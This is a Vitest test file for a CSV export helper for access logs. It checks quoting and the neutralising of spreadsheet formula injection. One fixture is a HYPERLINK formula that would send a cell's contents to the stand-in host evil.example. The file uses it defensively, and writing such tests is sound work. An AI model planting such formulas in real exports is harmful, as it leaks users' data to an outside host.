import { describe, expect, it } from 'vitest';
import { csvCell, csvRow } from './access-log.csv.js';

describe('csvCell', () => {
  it.each([
    ['plain', 'plain'],
    ['', ''],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['line\nbreak', '"line\nbreak"'],
    [' padded ', '" padded "'],
  ])('quotes %j as needed', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it.each([
    ['=1+2', `"'=1+2"`],
    ['+SUM(A1:A2)', `"'+SUM(A1:A2)"`],
    ['-2+3', `"'-2+3"`],
    ['@cmd', `"'@cmd"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`],
  ])('defuses the formula %j with a leading quote', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it('leaves numbers, null and harmless text as they are', () => {
    expect(csvCell(1234)).toBe('1234');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell('Mozilla/5.0 (X11; Linux)')).toBe('Mozilla/5.0 (X11; Linux)');
    expect(csvCell('a=b')).toBe('a=b');
  });

  it('joins a row with commas and ends it with CRLF', () => {
    expect(csvRow(['a', null, 3, '=x'])).toBe(`a,,3,"'=x"\r\n`);
  });
});
